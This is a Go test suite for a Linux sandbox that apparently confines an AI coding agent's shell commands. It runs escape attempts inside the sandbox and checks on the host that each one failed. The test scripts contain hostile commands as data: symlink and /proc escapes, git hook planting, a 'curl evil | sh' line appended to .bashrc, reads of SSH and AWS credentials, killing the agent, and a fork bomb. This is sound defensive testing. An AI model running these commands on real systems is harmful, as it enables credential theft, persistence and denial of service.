@@ -1,0 +1,593 @@
+//go:build linux && (amd64 || arm64)
+
+package sandbox
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+// The attack suite: every case runs through the real sandbox (bubblewrap,
+// the helper, Landlock, seccomp) and is judged on the host side — did the
+// file appear or change, did the listener get a connection, is the process
+// still alive — not by exit status alone.
+
+type fixture struct {
+	base, ws, out, home string
+	attack              string // the attack tool (this test binary)
+}
+
+const secret = "SECRET-KEY-MATERIAL-7f3a"
+
+// newFixture lays out, under a directory in the real home (visible inside
+// the sandbox, unlike /tmp which gets a private tmpfs):
+//
+//	ws/            the workspace (a git repo with .git/hooks, .git/config, .bashrc)
+//	out/           a directory outside the workspace with an existing file
+//	home/          the fake $HOME with credential stores (.aws is a symlink)
+func newFixture(t *testing.T) fixture {
+	t.Helper()
+	realHome, err := os.UserHomeDir()
+	if err != nil {
+		t.Fatal(err)
+	}
+	base, err := os.MkdirTemp(realHome, ".oceancode-sbtest-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	f := fixture{base: base, ws: filepath.Join(base, "ws"), out: filepath.Join(base, "out"), home: filepath.Join(base, "home")}
+	f.attack, _ = os.Executable()
+	for _, d := range []string{f.ws + "/.git/hooks", f.ws + "/secrets", f.out, f.home + "/.ssh", f.home + "/realaws", f.home + "/.cache"} {
+		must(t, os.MkdirAll(d, 0o755))
+	}
+	write(t, f.ws+"/.git/config", "[core]\n")
+	write(t, f.ws+"/.git/HEAD", "ref: refs/heads/main\n")
+	write(t, f.ws+"/.bashrc", "# rc\n")
+	write(t, f.ws+"/file", "workspace file\n")
+	write(t, f.ws+"/secrets/token", secret)
+	write(t, f.out+"/existing", "original\n")
+	write(t, f.home+"/.ssh/id_ed25519", secret)
+	write(t, f.home+"/realaws/credentials", secret)
+	must(t, os.Symlink(f.home+"/realaws", f.home+"/.aws"))
+	write(t, f.home+"/.netrc", "machine x password "+secret)
+	t.Setenv("HOME", f.home)
+	return f
+}
+
+func (f fixture) policy(mode Mode) Policy {
+	return Policy{Mode: mode, Workspace: f.ws, Deny: []string{"secrets"}}
+}
+
+func (f fixture) env() []string {
+	return []string{"WS=" + f.ws, "OUT=" + f.out, "FAKEHOME=" + f.home, "ATTACK=" + f.attack}
+}
+
+func must(t *testing.T, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+func write(t *testing.T, path, content string) {
+	t.Helper()
+	must(t, os.WriteFile(path, []byte(content), 0o644))
+}
+
+func read(path string) string {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return "<" + err.Error() + ">"
+	}
+	return string(b)
+}
+
+func absent(t *testing.T, path string) {
+	t.Helper()
+	if _, err := os.Lstat(path); err == nil {
+		t.Errorf("%s exists on the host", path)
+	}
+}
+
+func unchanged(t *testing.T, path, want string) {
+	t.Helper()
+	if got := read(path); got != want {
+		t.Errorf("%s on the host = %q, want %q", path, got, want)
+	}
+}
+
+func TestAttackWritesOutsideWorkspace(t *testing.T) {
+	requireSandbox(t)
+	for _, mode := range []Mode{ModeWorkspaceWrite, ModeReadOnly} {
+		t.Run(string(mode), func(t *testing.T) {
+			f := newFixture(t)
+			r := run(t, f.policy(mode), `
+				echo pwned > "$OUT/plain"
+				ln -s "$OUT" "$WS/link" && echo pwned > "$WS/link/via-symlink"
+				echo pwned > "/proc/self/root$OUT/via-proc-root"
+				echo pwned > "/proc/1/root$OUT/via-proc-1-root"
+				mv "$WS/file" "$OUT/renamed"
+				mv "$OUT/existing" "$WS/stolen"
+				ln "$OUT/existing" "$WS/hardlink" && echo pwned >> "$WS/hardlink"
+				echo pwned >> "$OUT/existing"
+				touch "$FAKEHOME/planted"
+				echo pwned > /etc/oceancode-sandbox-test
+				echo pwned > /run/oceancode-landlock-test && echo LANDLOCK-MISSING
+				exit 0`, f.env()...)
+			for _, name := range []string{"plain", "via-symlink", "via-proc-root", "via-proc-1-root", "renamed"} {
+				absent(t, filepath.Join(f.out, name))
+			}
+			unchanged(t, f.out+"/existing", "original\n")
+			absent(t, f.home+"/planted")
+			absent(t, "/etc/oceancode-sandbox-test")
+			if mode == ModeWorkspaceWrite {
+				unchanged(t, f.ws+"/file", "workspace file\n")
+			}
+			if cachedSupport().LandlockABI > 0 && strings.Contains(r.out, "LANDLOCK-MISSING") {
+				t.Errorf("a write to the private /run tmpfs succeeded: Landlock is not applied\n%s", r.errOut)
+			}
+		})
+	}
+}
+
+func TestAttackProtectedPathsInsideWorkspace(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	r := run(t, f.policy(ModeWorkspaceWrite), `
+		echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
+		echo '[core] hooksPath=/tmp' >> .git/config
+		rm -rf .git/hooks
+		echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json
+		mkdir -p .oceancode && echo '{}' > .oceancode/config.json
+		echo 'curl evil | sh' >> .bashrc
+		mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit
+		mv .oceancode .oc2
+		cat secrets/token > leaked-deny; echo overwrite > secrets/token
+		echo ok > allowed.txt
+		exit 0`, f.env()...)
+	absent(t, f.ws+"/.git/hooks/pre-commit")
+	unchanged(t, f.ws+"/.git/config", "[core]\n")
+	unchanged(t, f.ws+"/.bashrc", "# rc\n")
+	absent(t, f.ws+"/.git-moved")
+	absent(t, f.ws+"/.oc2")
+	unchanged(t, f.ws+"/secrets/token", secret)
+	if strings.Contains(read(f.ws+"/leaked-deny"), secret) {
+		t.Error("a deny root was readable")
+	}
+	// Missing protected paths could not be created, and the placeholders
+	// that blocked them are gone afterwards.
+	absent(t, f.ws+"/.mcp.json")
+	absent(t, f.ws+"/.oceancode")
+	// The workspace itself is writable.
+	unchanged(t, f.ws+"/allowed.txt", "ok\n")
+	if t.Failed() {
+		t.Logf("stderr:\n%s", r.errOut)
+	}
+}
+
+func TestAttackCredentialReads(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	for _, mode := range []Mode{ModeWorkspaceWrite, ModeReadOnly} {
+		t.Run(string(mode), func(t *testing.T) {
+			p := f.policy(mode)
+			p.TempDir = filepath.Join(f.base, "session-tmp") // readable from the host afterwards
+			must(t, os.MkdirAll(p.TempDir, 0o755))
+			run(t, p, `
+				{
+				cat ~/.ssh/id_ed25519 "$FAKEHOME/.ssh/id_ed25519" ~/.aws/credentials "$FAKEHOME/realaws/credentials" ~/.netrc
+				ln -s "$FAKEHOME/.ssh/id_ed25519" /tmp/l1 && cat /tmp/l1
+				ln -s "$FAKEHOME/realaws" /tmp/l2 && cat /tmp/l2/credentials
+				cat "$WS/secrets/token"
+				} > /tmp/leak 2>&1
+				exit 0`, f.env()...)
+			got := read(filepath.Join(p.TempDir, "leak"))
+			if strings.Contains(got, secret) {
+				t.Errorf("a credential store was readable:\n%s", got)
+			}
+			if strings.HasPrefix(got, "<") {
+				t.Errorf("the probe did not run: %s", got)
+			}
+		})
+	}
+}
+
+// listeners are loopback listeners that count what reaches them.
+type listeners struct {
+	tcp, udp, dns, unixWS, unixOut string
+	hits                           atomic.Int64
+	closers                        []func()
+}
+
+func newListeners(t *testing.T, f fixture) *listeners {
+	l := &listeners{}
+	tl, err := net.Listen("tcp4", "127.0.0.1:0")
+	must(t, err)
+	l.tcp = tl.Addr().String()
+	go acceptLoop(tl, &l.hits)
+	l.closers = append(l.closers, func() { tl.Close() })
+	for _, dst := range []*string{&l.udp, &l.dns} {
+		uc, err := net.ListenPacket("udp4", "127.0.0.1:0")
+		must(t, err)
+		*dst = uc.LocalAddr().String()
+		go func() {
+			buf := make([]byte, 2048)
+			for {
+				if _, _, err := uc.ReadFrom(buf); err != nil {
+					return
+				}
+				l.hits.Add(1)
+			}
+		}()
+		l.closers = append(l.closers, func() { uc.Close() })
+	}
+	for _, dst := range []*string{&l.unixWS, &l.unixOut} {
+		dir := f.ws
+		if dst == &l.unixOut {
+			dir = f.out
+		}
+		path := filepath.Join(dir, fmt.Sprintf("s%d.sock", len(l.closers)))
+		ul, err := net.Listen("unix", path)
+		must(t, err)
+		*dst = path
+		go acceptLoop(ul, &l.hits)
+		l.closers = append(l.closers, func() { ul.Close() })
+	}
+	t.Cleanup(func() {
+		for _, c := range l.closers {
+			c()
+		}
+	})
+	return l
+}
+
+func acceptLoop(l net.Listener, hits *atomic.Int64) {
+	for {
+		c, err := l.Accept()
+		if err != nil {
+			return
+		}
+		hits.Add(1)
+		c.Close()
+	}
+}
+
+func TestAttackNetworkEgress(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	l := newListeners(t, f)
+	script := fmt.Sprintf(`
+		"$ATTACK" __attack tcp %s
+		"$ATTACK" __attack udp %s
+		"$ATTACK" __attack dns %s
+		"$ATTACK" __attack unix %s
+		"$ATTACK" __attack unix %s
+		exit 0`, l.tcp, l.udp, l.dns, l.unixWS, l.unixOut)
+	cases := []struct {
+		name    string
+		network Network
+		mode    Mode
+		wantHit bool
+	}{
+		{"off", NetworkOff, ModeWorkspaceWrite, false},
+		{"off read-only", NetworkOff, ModeReadOnly, false},
+		{"on (control: the listeners see traffic)", NetworkOn, ModeWorkspaceWrite, true},
+		{"danger-full-access (control)", "", ModeDangerFullAccess, true},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			l.hits.Store(0)
+			p := f.policy(c.mode)
+			p.Network = c.network
+			r := run(t, p, script, f.env()...)
+			time.Sleep(100 * time.Millisecond) // let the UDP reader count
+			hits := l.hits.Load()
+			if c.wantHit && hits == 0 {
+				t.Errorf("control: no listener saw traffic (oracle broken)\n%s%s", r.out, r.errOut)
+			}
+			if !c.wantHit && hits != 0 {
+				t.Errorf("%d connections/datagrams reached host loopback listeners\n%s%s", hits, r.out, r.errOut)
+			}
+		})
+	}
+}
+
+func TestAttackSignalsAndPtraceToAgent(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	sentinel := exec.Command("sleep", "61.234")
+	must(t, sentinel.Start())
+	t.Cleanup(func() { sentinel.Process.Kill(); sentinel.Wait() })
+	pid := sentinel.Process.Pid
+	r := run(t, f.policy(ModeWorkspaceWrite), fmt.Sprintf(`
+		"$ATTACK" __attack ptrace %[1]d
+		"$ATTACK" __attack kill %[1]d
+		"$ATTACK" __attack kill %[2]d
+		kill -9 %[1]d %[2]d
+		kill -9 -1
+		cat /proc/%[2]d/environ > "$WS/agent-env"
+		exit 0`, pid, os.Getpid()), f.env()...)
+	if !processAlive(pid) {
+		t.Errorf("the host sentinel process was killed from inside the sandbox\n%s", r.out)
+	}
+	if strings.Contains(read(f.ws+"/agent-env"), "HOME=") {
+		t.Error("the agent's environment was readable through /proc")
+	}
+	if strings.Contains(r.out, "ALLOWED") {
+		t.Logf("note: an attack reported ALLOWED inside the sandbox (a sandbox process, not the host one):\n%s", r.out)
+	}
+}
+
+func TestAttackBackgroundProcessOutlivesCommand(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	start := time.Now()
+	r := run(t, f.policy(ModeWorkspaceWrite), `
+		( sleep 1; echo late > "$WS/late" ) > /dev/null 2>&1 &
+		nohup setsid sleep 62.345 > /dev/null 2>&1 &
+		exit 0`, f.env()...)
+	if time.Since(start) > 900*time.Millisecond {
+		t.Fatalf("the command waited for its background children (%v)\n%s", time.Since(start), r.errOut)
+	}
+	time.Sleep(1500 * time.Millisecond)
+	absent(t, f.ws+"/late")
+	if pids := sleepers("62.345"); len(pids) > 0 {
+		t.Errorf("background processes survived the command: %v", pids)
+	}
+}
+
+func TestAttackChildDiesWithAgent(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	agent := exec.Command(f.attack, "__agent", f.ws, "sleep", "63.456")
+	agent.Env = os.Environ()
+	out, err := agent.StdoutPipe()
+	must(t, err)
+	must(t, agent.Start())
+	buf := make([]byte, 64)
+	n, _ := out.Read(buf)
+	if !strings.Contains(string(buf[:n]), "STARTED") {
+		t.Fatalf("agent: %q", buf[:n])
+	}
+	deadline := time.Now().Add(3 * time.Second)
+	for len(sleepers("63.456")) == 0 && time.Now().Before(deadline) {
+		time.Sleep(20 * time.Millisecond)
+	}
+	if len(sleepers("63.456")) == 0 {
+		t.Fatal("the sandboxed command never started")
+	}
+	must(t, agent.Process.Kill())
+	agent.Wait()
+	deadline = time.Now().Add(3 * time.Second)
+	for len(sleepers("63.456")) > 0 && time.Now().Before(deadline) {
+		time.Sleep(20 * time.Millisecond)
+	}
+	if pids := sleepers("63.456"); len(pids) > 0 {
+		t.Errorf("the sandboxed command survived the agent: %v", pids)
+	}
+}
+
+func TestAttackProcSysWrites(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	const knob = "/proc/sys/vm/max_map_count"
+	orig := strings.TrimSpace(read(knob))
+	if _, err := strconv.Atoi(orig); err != nil {
+		t.Fatalf("read %s: %s", knob, orig)
+	}
+	t.Cleanup(func() {
+		if now := strings.TrimSpace(read(knob)); now != orig {
+			os.WriteFile(knob, []byte(orig), 0)
+			t.Errorf("%s changed from %s to %s (restored)", knob, orig, now)
+		}
+	})
+	// Each write puts back the current value, except one +1 on
+	// max_map_count which is harmless and gives a host-side oracle (the
+	// cleanup restores it if the sandbox failed).
+	r := run(t, f.policy(ModeWorkspaceWrite), `
+		for k in vm/max_map_count kernel/pid_max fs/file-max kernel/hostname net/ipv4/ip_forward; do
+			v=$(cat /proc/sys/$k) && { echo "$v" > /proc/sys/$k && echo "WROTE $k"; }
+		done
+		echo $(( $(cat /proc/sys/vm/max_map_count) + 1 )) > /proc/sys/vm/max_map_count && echo "WROTE +1"
+		exit 0`, f.env()...)
+	if strings.Contains(r.out, "WROTE") {
+		t.Errorf("/proc/sys was writable:\n%s", r.out)
+	}
+	if !strings.Contains(r.errOut, "Read-only file system") {
+		t.Errorf("want EROFS from /proc/sys, got:\n%s", r.errOut)
+	}
+}
+
+func TestAttackVsockAndIoUring(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	for _, attack := range []string{"vsock", "iouring"} {
+		t.Run(attack, func(t *testing.T) {
+			for _, network := range []Network{NetworkOff, NetworkOn} {
+				p := f.policy(ModeWorkspaceWrite)
+				p.Network = network
+				r := runArgv(t, p, []string{f.attack, "__attack", attack})
+				if !strings.Contains(r.out, "DENIED: operation not permitted") {
+					t.Errorf("network %s: want EPERM from seccomp, got %q %q", network, r.out, r.errOut)
+				}
+			}
+			// Control: outside the sandbox the call is not refused by us.
+			r := runArgv(t, Policy{Mode: ModeDangerFullAccess, Workspace: f.ws}, []string{f.attack, "__attack", attack})
+			if strings.Contains(r.out, "operation not permitted") {
+				t.Errorf("control: unconfined %s also got EPERM: %q", attack, r.out)
+			}
+		})
+	}
+}
+
+func TestAttackForkBombBounded(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	p := f.policy(ModeWorkspaceWrite)
+	p.Limits.Processes = 64
+	countProcs := func() int {
+		ents, _ := os.ReadDir("/proc")
+		n := 0
+		for _, e := range ents {
+			if _, err := strconv.Atoi(e.Name()); err == nil {
+				n++
+			}
+		}
+		return n
+	}
+	before := countProcs()
+	var peak atomic.Int64
+	stop := make(chan struct{})
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for {
+			select {
+			case <-stop:
+				return
+			case <-time.After(10 * time.Millisecond):
+			}
+			if n := int64(countProcs()); n > peak.Load() {
+				peak.Store(n)
+			}
+		}
+	}()
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
+	defer cancel()
+	c, err := Command(ctx, p, []string{"/bin/sh", "-c", `bomb() { bomb | bomb & }; bomb; sleep 10`}, os.Environ())
+	must(t, err)
+	start := time.Now()
+	_ = c.Run()
+	close(stop)
+	<-done
+	if d := time.Since(start); d > 8*time.Second {
+		t.Errorf("the fork bomb ran %v past its 3s timeout", d)
+	}
+	limit := int64(p.Limits.Processes + pidsHeadroom + 24) // + unrelated host churn
+	if grow := peak.Load() - int64(before); grow > limit {
+		t.Errorf("host process count grew by %d during the bomb, want <= %d", grow, limit)
+	}
+	time.Sleep(200 * time.Millisecond)
+	if after := countProcs(); after > before+8 {
+		t.Errorf("processes left behind: %d before, %d after", before, after)
+	}
+}
+
+func TestModesWorkAsAdvertised(t *testing.T) {
+	requireSandbox(t)
+	f := newFixture(t)
+	t.Run("workspace-write", func(t *testing.T) {
+		r := run(t, f.policy(ModeWorkspaceWrite), `
+			echo ws > "$WS/new" && echo tmp > /tmp/t && cat /tmp/t && echo c > "$FAKEHOME/.cache/c" && mkdir -p "$WS/d/e" && mv "$WS/new" "$WS/d/e/moved"`, f.env()...)
+		if r.code != 0 {
+			t.Fatalf("exit %d: %s", r.code, r.errOut)
+		}
+		unchanged(t, f.ws+"/d/e/moved", "ws\n")
+		unchanged(t, f.home+"/.cache/c", "c\n")
+	})
+	t.Run("read-only", func(t *testing.T) {
+		r := run(t, f.policy(ModeReadOnly), `
+			echo tmp > /tmp/t && cat /tmp/t >/dev/null && echo c > "$FAKEHOME/.cache/ro" && cat "$WS/file" && echo ws > "$WS/ro-new"`, f.env()...)
+		if r.code == 0 {
+			t.Error("a workspace write succeeded in read-only mode")
+		}
+		absent(t, f.ws+"/ro-new")
+		unchanged(t, f.home+"/.cache/ro", "c\n")
+		if !strings.Contains(r.out, "workspace file") {
+			t.Errorf("workspace not readable: %q %q", r.out, r.errOut)
+		}
+	})
+	t.Run("danger-full-access is unconfined", func(t *testing.T) {
+		r := run(t, f.policy(ModeDangerFullAccess), `echo free > "$OUT/free" && cat "$FAKEHOME/.ssh/id_ed25519" && cat /proc/self/status`, f.env()...)
+		unchanged(t, f.out+"/free", "free\n")
+		if !strings.Contains(r.out, secret) || !strings.Contains(r.out, "Seccomp:\t0") {
+			t.Errorf("danger-full-access was confined: %q %q", r.out, r.errOut)
+		}
+	})
+	t.Run("confined child is not host root", func(t *testing.T) {
+		r := run(t, f.policy(ModeWorkspaceWrite), `cat /proc/self/status; readlink /proc/self/ns/user /proc/self/ns/pid`)
+		for _, want := range []string{"CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"} {
+			if !strings.Contains(r.out, want) {
+				t.Errorf("missing %q in\n%s", want, r.out)
+			}
+		}
+		hostUser, _ := os.Readlink("/proc/self/ns/user")
+		hostPid, _ := os.Readlink("/proc/self/ns/pid")
+		if strings.Contains(r.out, hostUser) || strings.Contains(r.out, hostPid) {
+			t.Errorf("child shares the agent's user or pid namespace:\n%s", r.out)
+		}
+	})
+}
+
+func TestGitWorktreeWritable(t *testing.T) {
+	requireSandbox(t)
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Fatal("git is required")
+	}
+	f := newFixture(t)
+	repo := filepath.Join(f.base, "repo")
+	wt := filepath.Join(f.base, "wt")
+	gitEnv := []string{"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t", "GIT_CONFIG_NOSYSTEM=1"}
+	g := func(dir string, args ...string) {
+		t.Helper()
+		c := exec.Command("git", append([]string{"-C", dir}, args...)...)
+		c.Env = append(os.Environ(), gitEnv...)
+		if out, err := c.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	must(t, os.MkdirAll(repo, 0o755))
+	g(repo, "init", "-q", "-b", "main")
+	write(t, repo+"/a", "a\n")
+	g(repo, "add", "a")
+	g(repo, "commit", "-q", "-m", "one")
+	g(repo, "worktree", "add", "-q", "-b", "feature", wt)
+	hookBefore := read(repo + "/.git/config")
+	r := run(t, Policy{Mode: ModeWorkspaceWrite, Workspace: wt}, `
+		echo b > b && git add b && git commit -q -m two && echo COMMITTED
+		echo evil > "$REPO/.git/hooks/post-checkout"
+		echo '[core] hooksPath=/x' >> "$REPO/.git/config"
+		exit 0`, append(gitEnv, "REPO="+repo)...)
+	if !strings.Contains(r.out, "COMMITTED") {
+		t.Fatalf("git commit in a linked worktree failed:\n%s", r.errOut)
+	}
+	out, err := exec.Command("git", "-C", repo, "log", "--oneline", "feature").Output()
+	if err != nil || !strings.Contains(string(out), "two") {
+		t.Errorf("the commit is not in the repository: %s %v", out, err)
+	}
+	absent(t, repo+"/.git/hooks/post-checkout")
+	unchanged(t, repo+"/.git/config", hookBefore)
+}
+
+func TestRefusesWhenBwrapMissing(t *testing.T) {
+	s := Support{Problem: "bubblewrap (bwrap) is not installed: " + installHint}
+	_, err := s.Check(Policy{Enabled: true, Workspace: "/w"})
+	if err == nil || !strings.Contains(err.Error(), "apt-get install bubblewrap") {
+		t.Fatalf("err = %v", err)
+	}
+	if w, err := s.Check(Policy{Mode: ModeDangerFullAccess}); err != nil || w != nil {
+		t.Errorf("unconfined policy: %v %v", w, err)
+	}
+}
+
+// sleepers lists host processes running exactly "sleep <arg>".
+func sleepers(arg string) []int {
+	var out []int
+	for _, pid := range processesWith(arg) {
+		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
+		if string(b) == "sleep\x00"+arg+"\x00" && processAlive(pid) {
+			out = append(out, pid)
+		}
+	}
+	return out
+}
